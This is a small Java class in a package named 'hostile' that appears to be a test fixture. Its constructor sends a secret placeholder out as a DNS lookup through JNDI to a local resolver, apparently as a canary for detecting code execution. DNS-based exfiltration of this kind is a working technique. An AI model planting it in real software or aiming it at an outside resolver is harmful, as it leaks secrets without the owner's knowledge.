package hostile;

import java.util.Hashtable;
import javax.naming.directory.InitialDirContext;

public final class Source {
    public Source() throws Exception {
        Thread.currentThread().setContextClassLoader(ClassLoader.getSystemClassLoader());
        Hashtable<String, String> environment = new Hashtable<>();
        environment.put("java.naming.factory.initial", "com.sun.jndi.dns.DnsContextFactory");
        environment.put("java.naming.provider.url", "dns://127.0.0.1:@UDP@/");
        new InitialDirContext(environment).getAttributes("@SECRET@.example");
    }
}
